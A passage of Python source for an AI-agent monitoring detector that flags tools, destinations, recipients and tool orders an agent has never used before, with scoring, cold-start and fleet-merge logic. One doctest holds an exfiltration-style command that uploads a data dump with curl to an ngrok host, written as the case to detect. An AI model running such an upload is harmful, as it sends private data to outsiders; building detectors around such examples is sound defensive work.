"""Novelty: something this agent has never used before — a tool, a destination, a recipient.

What it learns
--------------
Per ``agent_id`` and per ``principal``, the set of things the agent's tool calls touch,
by kind:

``tool``
    the tool name;
``domain``
    hosts of URLs in the target or ``url``-like arguments (``curl …``, ``WebFetch``);
``recipient`` / ``recipient_domain``
    addresses (and their domains) in ``to``/``cc``/``bcc``/``attendees``-like arguments,
    or the target of a mail-like tool;
``bucket``
    object-store buckets (``s3://``, ``gs://``, ``az://``…, or a ``bucket`` argument);
``cloud_account``
    ``account``/``account_id``/``project``/``subscription``/``profile`` arguments;
``table``
    tables named in the SQL of a SQL-like tool;
``transition``
    order: ``previous tool → tool`` within a session (``^ → tool`` for its first call) for the
    calls of a high-stakes tier (below), e.g. ``review_invoice → transfer_funds``; what leads into a
    read-only call is not kept (it would double the learned state and is never judged).

Plus, per agent and kind (internal and external apart), an exponentially weighted
*discovery rate* (the share of recent observations that were new): a never-seen
external domain is surprising for an agent that never went outside, much less for
one that browses widely. Fleet-wide, the same items (and which agent first used
each), so "new to this agent but used elsewhere in the fleet" scores lower than "new
to everyone"; and per session, the names its context gives — domains and addresses
in the user's prompt, a tool result's ``from``/``requester``…, a lookup's target — so
replying to the customer whose ticket is open is not treated like a stranger.

Cold start, explicitly: until an agent has ``min_sessions_for_baseline`` closed
sessions *and* ``min_events_for_baseline`` events (:meth:`Novelty.baseline_status`,
``agentwatch_baseline_agents``) it learns, and none of the learned scores below apply.
A new agent is not a blind spot: meanwhile, and only then, each of its calls is judged by
the cold-start table (:mod:`agentwatch.detectors.cold_start`, ``cold_start_scores``): its
consequence tier and the most exposed party it names (a consumer mail address, another
outside party, an internal one, none) → a score. By default a grant of access to, or a
payment towards, an outside party and a publication reach medium (0.5–0.65), a message to a
consumer mail address is low (0.45), everything else nothing; findings are
``cold-start-<tier>`` and say "cold start: no baseline for this agent yet". A reported call's
items are held like a reported novelty's (below). Once the agent has a baseline the table is
silent, so the same action is never scored twice.

Scores: a new *external* recipient domain 0.65, external domain sent to 0.6
(fetched from: 0.45), external bucket 0.55 — plus 0.1 when the call sends
≥ ``large_bytes_out`` and 0.2 at ≥ ``huge_bytes_out``; a new internal tool, table or
destination 0.3–0.4 (``low``: below the default ``min_score`` of 0.5, so it only
alerts where the operator asks for it). Then multiplied by ``1 - 0.5 × discovery
rate``, by 0.6 when the fleet already uses the item, 0.8 when the principal's other
agents do, and 0.5 when the session's context names it. Internal means a configured
domain or suffix, the principal's own mail domain, a private address, or a bucket
with a configured (or the principal's organisation) prefix.

Order is scored conservatively: a never-seen transition counts only for a baselined agent,
into a high-stakes tier (``consequence.HIGH_STAKES``: external communication, publication,
financial, access change, physical, deletion), between two tools the agent already uses, into
a tool it has reached from another predecessor before (``read_inbox → transfer_funds`` from an
agent that always went ``review_invoice → transfer_funds``). It scores the tier's score × 0.6
(``transition_factor``: at most 0.45, low, never an alert alone; τ²-bench retail shows why —
10 of its 56 benign evaluation sessions take such a never-seen order, in novelty alone). When
another new item of the same call is reported, its reason names the order; a new other party (payee,
recipient, bucket) can also get ``transition_bonus`` more, 0 by default: 0.05 pushed one benign
``agentwatch simulate --seed 3`` session over the alert line and raised no recall anywhere measured.
Any other new transition is learned silently, like any item of a call that was not reported.

Learning follows river's ``AnomalyFilter`` convention, as
:class:`agentwatch.detect.learn_filter.LearnFilter` states it for ``rates``,
``session_anomaly`` and this detector: items of an event that was *not* reported are
learned at once; items of a reported event are held in the session and learned when
the session closes *clean* (no other detector alerted on it) — those reported at
``confirm_min_score`` or more only after ``confirm_sessions`` clean sessions — so one
benign new destination alerts a few times rather than forever, while the destination
of a session that also tripped another detector never becomes normal.

Bounds: ``max_items_per_kind`` per agent/principal and kind, least recently *used*
evicted (LRU: items in regular use stay); ``max_profiles`` agents plus principals, LRU;
``max_fleet_items`` per kind fleet-wide, LRU by first use.
"""

from __future__ import annotations

import math
import pickle
import re
from collections import OrderedDict
from collections.abc import Iterable, Sequence
from typing import Any, ClassVar, Final

import msgspec
from river import stats

from agentwatch.destinations import (
    DEFAULT_INTERNAL_SUFFIXES,
    DESTINATION_ARG_KEYS,
    MAIL_TOOL_WORDS,
    Destinations,
    email_addresses,
    is_internal_host,
    named_destinations,
    org_domain,
)
from agentwatch.detect.consequence import CONSEQUENTIAL, HIGH_STAKES, TIERS, Consequence, ToolCatalogue, classify
from agentwatch.detect.detector_spec import NO_FINDINGS, Detector, DetectorConfig, Finding, quote
from agentwatch.detect.learn_filter import LearnFilter
from agentwatch.detect.learned_merge import merge_lru
from agentwatch.detect.session_state import SessionState
from agentwatch.detectors.cold_start import ColdStartRules, merged_scores
from agentwatch.events.audit_event import AuditEvent
from agentwatch.observe.metrics import BASELINE_AGENTS, COLD_START_FINDINGS, TOOL_CALLS_BY_TIER

__all__ = ["Novelty", "NoveltyConfig"]

#: Score of a new item before multipliers (external unless prefixed ``internal_``).
DEFAULT_BASE_SCORES: Final = {
    "tool": 0.35,
    "table": 0.35,
    "cloud_account": 0.4,
    "recipient": 0.3,
    "domain": 0.6,
    "fetch_domain": 0.45,
    "recipient_domain": 0.65,
    "bucket": 0.55,
    "internal_domain": 0.3,
    "internal_recipient_domain": 0.3,
    "internal_bucket": 0.35,
}
KINDS: Final = (
    "tool",
    "domain",
    "recipient",
    "recipient_domain",
    "bucket",
    "cloud_account",
    "table",
    "tier",
    "counterparty",
    "transition",
)
#: Separates the previous tool from this one in a ``transition`` item; ``^`` stands for the session start.
TRANSITION_SEP: Final = " → "
SESSION_START: Final = "^"
#: Kinds naming the other party of an action: a new one in a never-seen order gets ``transition_bonus``.
_PARTY_KINDS: Final = frozenset({"counterparty", "recipient", "recipient_domain", "bucket"})
#: Score of a new tool, a first action of a consequence tier, or a new counterparty of a consequential
#: action, by the action's consequence tier (:mod:`agentwatch.detect.consequence`), before multipliers.
#: A read-only novelty stays low; an action nobody can classify is treated as possibly consequential.
DEFAULT_TIER_SCORES: Final = {
    "read_only": 0.3,
    "internal_write": 0.55,
    "unknown": 0.6,
    "external_comm": 0.65,
    "deletion": 0.65,
    "publication": 0.7,
    "physical": 0.7,
    "financial": 0.75,
    "access_change": 0.75,
}
#: Sessions closed between two updates of ``agentwatch_baseline_agents``.
BASELINE_PUBLISH_EVERY: Final = 256
#: How much of a session's prompts is kept to tell a call the principal asked for (per session).
MAX_ASKED_CHARS: Final = 2048
#: Argument names whose values are the other party of a consequential action (an account paid, a guest invited).
COUNTERPARTY_KEYS: Final = (
    "iban",
    "account_number",
    "to_account",
    "recipient_account",
    "destination_account",
    "payee",
    "beneficiary",
    "phone",
    "phone_number",
    "guest",
    "guest_email",
    "grantee",
    "invitee",
    "member",
    "wallet",
    "wallet_address",
)
_COUNTERPARTY_KEYS: Final = frozenset(COUNTERPARTY_KEYS)
#: What an effect's op says about the consequence of a call the effects layer understood (coding tools).
_OP_TIERS: Final = {
    "read": "read_only",
    "download": "read_only",
    "connect": "read_only",
    "write": "internal_write",
    "move": "internal_write",
    "chmod": "internal_write",
    "chown": "internal_write",
    "execute": "internal_write",
    "install": "internal_write",
    "persist": "internal_write",
    "change_settings": "internal_write",
    "env": "internal_write",
    "kill": "internal_write",
    "listen": "external_comm",
    "send": "external_comm",
    "upload": "external_comm",
    "delete": "deletion",
    "tamper": "deletion",
    "account": "access_change",
    "elevate": "access_change",
}
_TIER_RANK: Final = {t: i for i, t in enumerate(TIERS)}
#: Key prefix of the fleet-wide items of one kind in the shared learned state (``export_learned``).
FLEET_KEY_PREFIX: Final = "fleet:"

_SQL_TABLE: Final = re.compile(
    r"\b(?:from|join|into|update|table)\s+(?:if\s+(?:not\s+)?exists\s+|only\s+)?"
    r"([a-z_][\w$]*(?:\.[a-z_][\w$]*){0,2})"
)
_SQL_NOT_TABLES: Final = frozenset({"select", "lateral", "unnest", "values", "set", "the", "where", "as"})

#: Argument keys naming a cloud account or project.
ACCOUNT_KEYS: Final = ("account", "account_id", "project", "project_id", "subscription", "profile")
#: Tool-result attributes naming who the work is about.
_CONTEXT_KEYS: Final = ("from", "requester", "reply_to", "sender", "customer")
_CONTEXT_KEY_SET: Final = frozenset(_CONTEXT_KEYS)
_ACCOUNT_KEYS: Final = frozenset(ACCOUNT_KEYS)


class NoveltyConfig(DetectorConfig, kw_only=True, forbid_unknown_fields=True):
    """Tunables of :class:`Novelty`.

    Parameters
    ----------
    min_sessions_for_baseline, min_events_for_baseline
        Cold start: the agent's learned scores are silent until it has this many closed
        sessions and observed events (it learns meanwhile); ``cold_start_scores`` applies instead.
    cold_start_scores
        ``{tier: {counterparty class: score}}`` for the calls of an agent *without* a baseline
        (:mod:`agentwatch.detectors.cold_start`: classes ``consumer``, ``external``, ``internal``,
        ``none``), laid over :data:`~agentwatch.detectors.cold_start.DEFAULT_COLD_START_SCORES` per
        tier and class (0 silences one); silent once the agent has a baseline.
    internal_domains
        Mail/web domains that are the organisation's own (subdomains included). The
        principal's own mail domain is always added.
    internal_suffixes
        Host suffixes that are internal by convention.
    internal_bucket_prefixes
        Bucket-name prefixes that are the organisation's own. With
        ``infer_org_bucket_prefix`` the first label of the principal's mail domain plus
        ``-`` (``acme-`` for ``@acme.example``) counts too.
    infer_org_bucket_prefix
        See ``internal_bucket_prefixes``.
    tier_scores
        Score of a new tool, of the agent's first action of a consequence tier, and of a new
        counterparty (an ``iban``, ``payee``, ``guest``… argument of a consequential call), by
        the call's consequence tier (:data:`DEFAULT_TIER_SCORES`), before multipliers.
    confirm_min_score, confirm_sessions
        A new item reported at ``confirm_min_score`` or more (an alert, with the default
        policy) becomes normal only after it was used in ``confirm_sessions`` sessions that
        closed clean; until then it alerts each time. Lower-scored novelties are learned
        after one clean session (or at once when below ``report_min_score``).
    transition_factor, transition_bonus
        Order: a never-seen ``previous tool → tool`` transition of a baselined agent into a high-stakes
        tier (``consequence.HIGH_STAKES``), where both tools are known to the agent and it has reached
        this tool from another predecessor before, scores ``tier_scores[tier] × transition_factor``
        (at most 0.45 with the defaults: low, never an alert alone) before multipliers; when a new
        other party (counterparty, recipient, recipient domain, bucket) of the same call is reported,
        that finding gets ``transition_bonus`` more (0 by default; see the module docstring).
    min_amount_observations, amount_sigmas, amount_fading, amount_min_variance
        How much: per agent and tool, the exponentially weighted mean and variance (river, fading
        ``amount_fading``) of log10 of a financial call's ``amount``; after ``min_amount_observations``
        calls, an amount ``amount_sigmas`` standard deviations above is reported (the variance is at
        least ``amount_min_variance``, so an agent that always moves the same sum is not flagged for cents).
    tool_catalogue
        A YAML file ``tools: {<tool glob>: <tier>}`` that overrides how tools are classified
        (:class:`agentwatch.detect.consequence.ToolCatalogue`).
    base_scores
        Score of a new item of each kind before multipliers; the keys ``domain``,
        ``recipient_domain`` and ``bucket`` are for *external* ones, the ``internal_…``
        keys for the rest.
    send_bytes_min
        A new external domain scores ``base_scores["domain"]`` when the call sends at
        least this many bytes, else ``base_scores["fetch_domain"]`` (a plain fetch).
    large_bytes_out, huge_bytes_out
        A call sending at least this many bytes adds ``large_bonus`` / ``huge_bonus``
        to an external item's score.
    large_bonus, huge_bonus
        See above.
    discovery_fading, discovery_weight
        The per-agent discovery rate of a kind (internal and external items apart) is
        the exponentially weighted share of its observations that were new,
        ``new / (observations + 1)``, both counts fading by ``1 - discovery_fading``
        per observation. The score is multiplied by ``1 - discovery_weight * rate``: a
        kind the agent never used (rate 0) gets the full score, an agent that keeps
        finding new ones about half.
    fleet_known_factor
        Multiplier when another agent of the fleet already uses the item.
    principal_known_factor
        Multiplier when another agent of the same principal already uses the item.
    prompt_context_factor, max_context
        Multiplier for a domain or address the session's context names: the user's
        prompt, a tool result's ``from``/``requester``/``reply_to``/``sender``/``customer``,
        or the target of a lookup (at most ``max_context`` names per session).
    report_min_score
        Findings scoring below this are not reported at all (they are not "flagged",
        and their items are learned at once).
    max_items_per_kind, max_profiles, max_fleet_items
        Bounds (see the module docstring).
    """

    min_sessions_for_baseline: int = 3
    min_events_for_baseline: int = 30
    cold_start_scores: dict[str, dict[str, float]] = msgspec.field(default_factory=dict)
    tier_scores: dict[str, float] = msgspec.field(default_factory=lambda: dict(DEFAULT_TIER_SCORES))
    confirm_min_score: float = 0.5
    confirm_sessions: int = 3
    transition_factor: float = 0.6
    transition_bonus: float = 0.0
    min_amount_observations: int = 10
    amount_sigmas: float = 3.0
    amount_fading: float = 0.05
    amount_min_variance: float = 0.01
    tool_catalogue: str | None = None
    internal_domains: tuple[str, ...] = ()
    internal_suffixes: tuple[str, ...] = DEFAULT_INTERNAL_SUFFIXES
    internal_bucket_prefixes: tuple[str, ...] = ()
    infer_org_bucket_prefix: bool = True
    base_scores: dict[str, float] = msgspec.field(default_factory=lambda: dict(DEFAULT_BASE_SCORES))
    send_bytes_min: int = 1024
    large_bytes_out: int = 100_000
    huge_bytes_out: int = 10_000_000
    large_bonus: float = 0.1
    huge_bonus: float = 0.2
    discovery_fading: float = 0.05
    discovery_weight: float = 0.5
    fleet_known_factor: float = 0.6
    principal_known_factor: float = 0.8
    prompt_context_factor: float = 0.5
    max_context: int = 32
    report_min_score: float = 0.25
    max_items_per_kind: int = 512
    max_profiles: int = 50_000
    max_fleet_items: int = 50_000

    def __post_init__(self) -> None:
        if self.min_sessions_for_baseline < 0 or self.min_events_for_baseline < 0:
            raise ValueError("baseline minimums must be ≥ 0")
        if not 0 < self.discovery_fading <= 1:
            raise ValueError("discovery_fading must be in (0, 1]")
        if min(self.max_items_per_kind, self.max_profiles, self.max_fleet_items) < 1:
            raise ValueError("caps must be ≥ 1")
        missing = set(DEFAULT_BASE_SCORES) - set(self.base_scores)
        if missing:
            raise ValueError(f"base_scores misses {sorted(missing)}")
        missing = set(DEFAULT_TIER_SCORES) - set(self.tier_scores)
        if missing:
            raise ValueError(f"tier_scores misses {sorted(missing)}")
        self.cold_start_scores = merged_scores(self.cold_start_scores)


class _Profile:
    """What one agent (or principal) has used, per kind, LRU-bounded; plus discovery rates."""

    __slots__ = ("sessions", "events", "items", "rates", "external_rates", "confirm", "amounts")

    def __init__(self) -> None:
        self.sessions = 0
        self.events = 0
        self.items: dict[str, OrderedDict[str, None]] = {}
        #: kind → [observations, new ones] (both fading), for internal and external items apart
        self.rates: dict[str, list[float]] = {}
        self.external_rates: dict[str, list[float]] = {}
        #: "kind\titem" → clean sessions it alerted in, for items not yet learned (bounded, LRU)
        self.confirm: OrderedDict[str, int] = OrderedDict()
        #: tool → [river EWMean, river EWVar, observations] of log10(amount) of its financial calls (LRU)
        self.amounts: OrderedDict[str, list[Any]] = OrderedDict()

    def __getstate__(self) -> tuple:
        return self.sessions, self.events, self.items, self.rates, self.external_rates, self.confirm, self.amounts

    def __setstate__(self, state: tuple) -> None:
        if len(state) == 5:  # written before `confirm` existed
            state = (*state, OrderedDict())
        if len(state) == 6:  # written before `amounts` existed
            state = (*state, OrderedDict())
        (self.sessions, self.events, self.items, self.rates, self.external_rates, self.confirm, self.amounts) = state


#: Argument names holding the sum a financial call moves.
AMOUNT_KEYS: Final = ("amount", "total", "value", "sum", "price", "amount_usd", "amount_eur")


def _amount_of(args: dict[str, Any] | None) -> float | None:
    """The first positive, finite number under an amount-like argument name (strings like ``"1,250.00"`` too)."""
    if not args:
        return None
    for key in AMOUNT_KEYS:
        value = args.get(key)
        if isinstance(value, str):
            try:
                value = float(value.replace(",", "").strip()[:32])
            except ValueError:
                continue
        if isinstance(value, (int, float)) and not isinstance(value, bool) and 0 < value < 1e15:
            return float(value)
    return None


#: Principals whose profile key and internal domains are kept built (cleared past it).
_MAX_PRINCIPALS_CACHED: Final = 4096
_NO_CONTEXT: Final[frozenset[str]] = frozenset()


class _SessionNovelty:
    """Per-session state in ``session.scratch["novelty"]``.

    ``agent`` and ``principal`` are shortcuts to the detector's profiles; they are not
    pickled with the session (the detector's checkpoint holds them) and are looked up
    again after a restore.
    """

    __slots__ = (
        "agent",
        "principal",
        "principal_key",
        "internal",
        "bucket_prefixes",
        "ready",
        "pending",
        "context",
        "asked",
        "prev",
    )

    def __init__(
        self,
        agent: _Profile | None,
        principal: _Profile | None,
        principal_key: str | None,
        internal: tuple[str, ...],
        bucket_prefixes: tuple[str, ...],
        ready: bool,
    ) -> None:
        self.agent = agent
        self.principal = principal
        self.principal_key = principal_key
        self.internal = internal
        self.bucket_prefixes = bucket_prefixes
        self.ready = ready
        #: (kind, item) of reported events → the score reported, learned only if the session closes clean
        self.pending: dict[tuple[str, str], float] = {}
        #: domains and addresses the user's prompt names (bounded; an empty frozenset, shared, until the first)
        self.context: set[str] | frozenset[str] = _NO_CONTEXT
        #: what the principal asked in this session, lower-cased (the first MAX_ASKED_CHARS)
        self.asked = ""
        #: the session's previous tool (SESSION_START before the first call): the ``transition`` kind
        self.prev = SESSION_START

    def __getstate__(self) -> tuple:
        return (None, None) + tuple(getattr(self, name) for name in self.__slots__[2:])

    def __setstate__(self, state: tuple) -> None:
        if len(state) == len(self.__slots__) - 1:  # written before `prev` existed
            state = (*state, SESSION_START)
        for name, value in zip(self.__slots__, state, strict=True):
            setattr(self, name, value)


class Novelty(Detector):
    """A tool, destination, recipient, bucket, account or table this agent has never used.

    See the module docstring for what is learned, scores, the cold-start rule and bounds.

    Examples
    --------
    After three ordinary sessions, the agent sends a large payload to a host nobody in
    the fleet has used before:

    >>> from agentwatch.events.audit_event import from_mapping
    >>> from agentwatch.detect.session_state import SessionTable
    >>> detector = Novelty(NoveltyConfig(min_events_for_baseline=10))
    >>> def call(i, session, tool, target, **kw):
    ...     return from_mapping({"event_id": f"{session}-{i}", "ts": 1767225600000 + i * 1000,
    ...                          "session_id": session, "agent_id": "coder-1", "kind": "tool_call",
    ...                          "principal": "ann@acme.example", "tool": tool, "target": target, **kw})
    >>> for s in ("s1", "s2", "s3"):
    ...     table = SessionTable()
    ...     for i in range(6):
    ...         ev = call(i, s, "WebFetch", "https://docs.python.org/3/")
    ...         _ = detector.observe(ev, table.touch(ev)[0])
    ...     _ = detector.close_session(table.get(s))
    >>> table = SessionTable()
    >>> ev = call(0, "s4", "Bash", "curl -T dump.tgz https://a1b2.ngrok-free.app/u", bytes_out=3_000_000)
    >>> [(f.rule, f.score >= 0.5) for f in detector.observe(ev, table.touch(ev)[0])]
    [('domain', True)]
    """

    name: ClassVar[str] = "novelty"
    categories: ClassVar[frozenset[str]] = frozenset({"anomaly"})
    config_type: ClassVar[type[DetectorConfig]] = NoveltyConfig
    kinds: ClassVar[frozenset[str] | None] = frozenset({"tool_call", "tool_result", "prompt"})
    cost_us: ClassVar[float] = 7.0  # bench/detector_cost.py: 1.35× the 5.1 µs measured before consequence tiers
    summary: ClassVar[str] = "A tool, destination, recipient, bucket or table never used before by this agent."

    config: NoveltyConfig

    def __init__(self, config: NoveltyConfig | None = None) -> None:
        super().__init__(config)
        self._profiles: OrderedDict[str, _Profile] = OrderedDict()
        self._fleet: dict[str, OrderedDict[str, str]] = {kind: OrderedDict() for kind in KINDS}
        self._catalogue = ToolCatalogue.load(self.config.tool_catalogue) if self.config.tool_catalogue else None
        #: calls by consequence tier since the last publication (``unknown``: no evidence could classify the
        #: tool), added to ``agentwatch_tool_calls_by_tier_total`` every BASELINE_PUBLISH_EVERY sessions
        self.tier_counts: dict[str, int] = dict.fromkeys(TIERS, 0)
        self._closed = 0
        self._tier_metric = {tier: TOOL_CALLS_BY_TIER.labels(tier) for tier in TIERS}
        self._baseline_metric = {state: BASELINE_AGENTS.labels(self.name, state) for state in ("learning", "ready")}
        cfg = self.config
        self._cold = ColdStartRules(
            cfg.cold_start_scores, cfg.prompt_context_factor, cfg.report_min_score, cfg.internal_suffixes
        )
        self._cold_metric = {tier: COLD_START_FINDINGS.labels(self.name, tier) for tier in TIERS}
        self._sql_tools: dict[str, bool] = {}
        self._mail_tools: dict[str, bool] = {}
        #: principal → (its profile key, internal domains, internal bucket prefixes) for its sessions
        self._principal_strings: dict[str | None, tuple[str | None, tuple[str, ...], tuple[str, ...]]] = {}
        #: profile keys and fleet kinds changed since the last ``export_learned``
        self._changed: set[str] = set()
        self._fleet_changed: set[str] = set()

    # -- state --------------------------------------------------------------------------
    def _profile(self, key: str, existing: _Profile | None = None) -> _Profile:
        profiles = self._profiles
        profile = profiles.get(key)
        if profile is None:
            profile = profiles[key] = existing if existing is not None else _Profile()
            while len(profiles) > self.config.max_profiles:
                profiles.popitem(last=False)
        else:
            profiles.move_to_end(key)
        return profile

    def _session_state(self, session: SessionState, event: AuditEvent) -> _SessionNovelty:
        cfg = self.config
        agent = self._profile("a:" + session.agent_id)
        principal_id = session.principal or event.principal
        cached = self._principal_strings.get(principal_id)
        if cached is None:  # built once per principal, shared by its sessions
            principal_key = "p:" + principal_id if principal_id else None
            internal = cfg.internal_domains
            prefixes = cfg.internal_bucket_prefixes
            org = org_domain(principal_id)
            if org is not None:
                internal = (*internal, org)
                if cfg.infer_org_bucket_prefix:
                    prefixes = (*prefixes, org.split(".", 1)[0] + "-")
            if len(self._principal_strings) >= _MAX_PRINCIPALS_CACHED:
                self._principal_strings.clear()
            cached = self._principal_strings[principal_id] = (principal_key, internal, prefixes)
        principal_key, internal, prefixes = cached
        principal = self._profile(principal_key) if principal_key else None
        ready = agent.sessions >= cfg.min_sessions_for_baseline and agent.events >= cfg.min_events_for_baseline
        return _SessionNovelty(agent, principal, principal_key, internal, prefixes, ready)

    # -- learned state shared across the group (agentwatch.detect.detector_spec) -------------------
    def export_learned(self) -> dict[str, bytes]:
        """Profiles (``a:<agent>``, ``p:<principal>``) and fleet items per kind
        (``fleet:<kind>``) changed since the last call."""
        out: dict[str, bytes] = {}
        for key in self._changed:
            profile = self._profiles.get(key)
            if profile is not None:
                out[key] = pickle.dumps(profile, protocol=5)
        for kind in self._fleet_changed:
            out[FLEET_KEY_PREFIX + kind] = pickle.dumps(self._fleet[kind], protocol=5)
        self._changed, self._fleet_changed = set(), set()
        return out

    def merge_learned(self, key: str, state: bytes) -> None:
        """Items: union; session and event counts: max; discovery rates: the more-observed."""
        cfg = self.config
        remote = pickle.loads(state)  # noqa: S301 - written by a monitor of this group to our store
        if key.startswith(FLEET_KEY_PREFIX):
            kind = key.removeprefix(FLEET_KEY_PREFIX)
            if kind in self._fleet and merge_lru(self._fleet[kind], remote, cfg.max_fleet_items):
                self._fleet_changed.add(kind)
            return
        profile = self._profiles.get(key)
        if profile is None:
            self._profile(key, remote)
            return
        extra = profile.sessions > remote.sessions or profile.events > remote.events
        for tool, remote_stats in remote.amounts.items():  # how much: the better-observed estimate wins
            mine_stats = profile.amounts.get(tool)
            if mine_stats is None or remote_stats[2] > mine_stats[2]:
                profile.amounts[tool] = remote_stats
            elif mine_stats[2] > remote_stats[2]:
                extra = True
        for key_item, seen in remote.confirm.items():
            if seen > profile.confirm.get(key_item, 0):
                profile.confirm[key_item] = seen
            elif seen < profile.confirm.get(key_item, 0):
                extra = True
        profile.sessions = max(profile.sessions, remote.sessions)
        profile.events = max(profile.events, remote.events)
        for kind, items in remote.items.items():
            mine = profile.items.get(kind)
            if mine is None:
                profile.items[kind] = items
            else:
                extra |= merge_lru(mine, items, cfg.max_items_per_kind)
        extra |= any(kind not in remote.items for kind in profile.items)
        pairs = ((profile.rates, remote.rates), (profile.external_rates, remote.external_rates))
        for local_rates, remote_rates in pairs:
            extra |= any(kind not in remote_rates for kind in local_rates)
            for kind, pair in remote_rates.items():
                mine_pair = local_rates.get(kind)
                if mine_pair is None or pair > mine_pair:
                    local_rates[kind] = pair
                elif mine_pair > pair:
                    extra = True
        if extra:
            self._changed.add(key)

    # -- extraction ---------------------------------------------------------------------
    def _is_mail_tool(self, tool: str) -> bool:
        is_mail = self._mail_tools.get(tool)
        if is_mail is None:
            low = tool.lower()
            is_mail = any(w in low for w in MAIL_TOOL_WORDS)
            if len(self._mail_tools) < 4096:
                self._mail_tools[tool] = is_mail
        return is_mail

    def _is_sql_tool(self, tool: str, args: dict[str, Any]) -> bool:
        is_sql = self._sql_tools.get(tool)
        if is_sql is None:
            low = tool.lower()
            is_sql = "sql" in low or "query" in low or "warehouse" in low
            if len(self._sql_tools) < 4096:
                self._sql_tools[tool] = is_sql
        return is_sql and (isinstance(args.get("sql"), str) or isinstance(args.get("query"), str))

    def consequence(self, event: AuditEvent, session: SessionState) -> Consequence:
        """The call's consequence tier: from its effects when the effects layer understood it (a shell
        command, a file tool), else from the tool's name, arguments and annotations — and from those
        too when they name a more consequential tier than the effects (``transfer_funds(to=<IBAN>)``
        has a ``send`` effect, but it moves money: financial, not external communication)."""
        named = classify(event.tool, event.args, event.attributes, self._catalogue)
        effects = session.effects
        if effects and self._catalogue is None:
            best = ""
            for effect in effects:
                tier = _OP_TIERS.get(getattr(effect, "op", ""), "")
                if tier and (not best or _TIER_RANK[tier] > _TIER_RANK[best]):
                    best = tier
            if best and not (named.tier in CONSEQUENTIAL and _TIER_RANK[named.tier] > _TIER_RANK[best]):
                return Consequence(best, "effects")
        return named

    def _items(self, event: AuditEvent, st: _SessionNovelty, tier: str) -> list[tuple[str, str, bool]]:
        """(kind, item, internal) touched by one tool call of consequence ``tier``."""
        tool = event.tool
        out: list[tuple[str, str, bool]] = []
        if tool:
            out.append(("tool", tool, True))
        if tier not in ("read_only", "unknown"):
            out.append(("tier", tier, True))
            args = event.args
            if args and not _COUNTERPARTY_KEYS.isdisjoint(args):
                for key in COUNTERPARTY_KEYS:
                    value = args.get(key)
                    if isinstance(value, (str, int)) and not isinstance(value, bool) and len(str(value)) <= 128:
                        out.append(("counterparty", f"{key}:{str(value).strip().lower()}", False))
        target = event.target or ""
        args = event.args
        if "://" in target or "@" in target or (args and not DESTINATION_ARG_KEYS.isdisjoint(args)):
            dest = Destinations.of(event)
            suffixes = self.config.internal_suffixes
            for host in dest.hosts:
                out.append(("domain", host, is_internal_host(host, st.internal, suffixes)))
            seen_domains = set()
            for addr in dest.recipients:
                domain = addr.rsplit("@", 1)[1]
                internal = is_internal_host(domain, st.internal, suffixes)
                out.append(("recipient", addr, internal))
                if domain not in seen_domains:
                    seen_domains.add(domain)
                    out.append(("recipient_domain", domain, internal))
            for bucket in dest.buckets:
                out.append(("bucket", bucket, bucket.startswith(st.bucket_prefixes)))
        if args:
            if not _ACCOUNT_KEYS.isdisjoint(args):
                for key in ACCOUNT_KEYS:
                    value = args.get(key)
                    if isinstance(value, str) and value and len(value) <= 128:
                        out.append(("cloud_account", value.lower(), True))
            if tool and self._is_sql_tool(tool, args):
                sql = args.get("sql")
                if not isinstance(sql, str):
                    sql = args.get("query")
                if isinstance(sql, str):
                    for table in dict.fromkeys(_SQL_TABLE.findall(sql[:4000].lower())):
                        if table not in _SQL_NOT_TABLES:
                            out.append(("table", table, True))
        return out

    # -- scoring ------------------------------------------------------------------------
    def _score(
        self, kind: str, internal: bool, item: str, event: AuditEvent, st: _SessionNovelty, rate: float, tier: str
    ) -> float:
        cfg = self.config
        scores = cfg.base_scores
        if kind in ("tool", "tier", "counterparty"):
            base = cfg.tier_scores[tier] + (0.05 if kind == "tier" else 0.0)
        elif kind == "transition":
            if not self._departure(st, item, event.tool or "", tier):
                return 0.0
            base = cfg.tier_scores[tier] * cfg.transition_factor
        elif kind in ("domain", "recipient_domain", "bucket"):
            sent = event.bytes_out or 0
            if internal:
                base = scores["internal_" + kind]
            else:
                base = scores["fetch_domain" if kind == "domain" and sent < cfg.send_bytes_min else kind]
                if sent >= cfg.huge_bytes_out:
                    base += cfg.huge_bonus
                elif sent >= cfg.large_bytes_out:
                    base += cfg.large_bonus
        else:
            base = scores[kind]
        factor = 1.0 - self.config.discovery_weight * rate
        if kind in ("tool", "tier", "transition") and self._asked_for(event, st):
            factor *= cfg.prompt_context_factor  # doing, for whom the principal named, what they asked
        first_user = self._fleet[kind].get(item)
        if first_user is not None and first_user != "a:" + event.agent_id:
            factor *= cfg.fleet_known_factor
        if item in st.context:
            factor *= cfg.prompt_context_factor
        principal = st.principal
        if principal is not None:
            known = principal.items.get(kind)
            if known is not None and item in known:
                factor *= cfg.principal_known_factor
        return min(0.95, base * factor)

    @staticmethod
    def _predecessors(agent: _Profile | None, tool: str, limit: int) -> list[str]:
        """Up to ``limit`` tools (or SESSION_START) this agent is known to have called right before ``tool``."""
        known = agent.items.get("transition") if agent is not None else None
        if not known:
            return []
        suffix = TRANSITION_SEP + tool
        out = []
        for pair in reversed(known):  # most recently used first
            if pair.endswith(suffix):
                out.append(pair[: -len(suffix)])
                if len(out) >= limit:
                    break
        return out

    def _departure(self, st: _SessionNovelty, item: str, tool: str, tier: str) -> bool:
        """Whether a never-seen ``item`` (``prev → tool``) is a departure in order worth a score: into a
        high-stakes tier, both tools known to the agent, and the agent reached ``tool`` another way before
        (so a baseline restored from before transitions were learned, or a new tool, is not judged)."""
        if tier not in HIGH_STAKES or not tool:
            return False
        tools = st.agent.items.get("tool") if st.agent is not None else None
        prev = item[: -len(TRANSITION_SEP + tool)]
        if prev == tool:  # the same call again is a run (``rates``' business), not another order
            return False
        if not tools or tool not in tools or (prev != SESSION_START and prev not in tools):
            return False
        return bool(self._predecessors(st.agent, tool, 1))

    def _learn(self, profile: _Profile | None, kind: str, item: str) -> None:
        if profile is None:
            return
        items = profile.items.get(kind)
        if items is None:
            items = profile.items[kind] = OrderedDict()
        items[item] = None
        items.move_to_end(item)
        if len(items) > self.config.max_items_per_kind:
            items.popitem(last=False)

    def _learn_all(self, st: _SessionNovelty, agent_key: str, kind: str, item: str) -> None:
        self._learn(st.agent, kind, item)
        if st.principal is not None:
            self._learn(st.principal, kind, item)
            self._changed.add(st.principal_key)  # type: ignore[arg-type]
        fleet = self._fleet[kind]
        if item not in fleet:
            fleet[item] = agent_key
            self._fleet_changed.add(kind)
            if len(fleet) > self.config.max_fleet_items:
                fleet.popitem(last=False)

    # -- hooks --------------------------------------------------------------------------
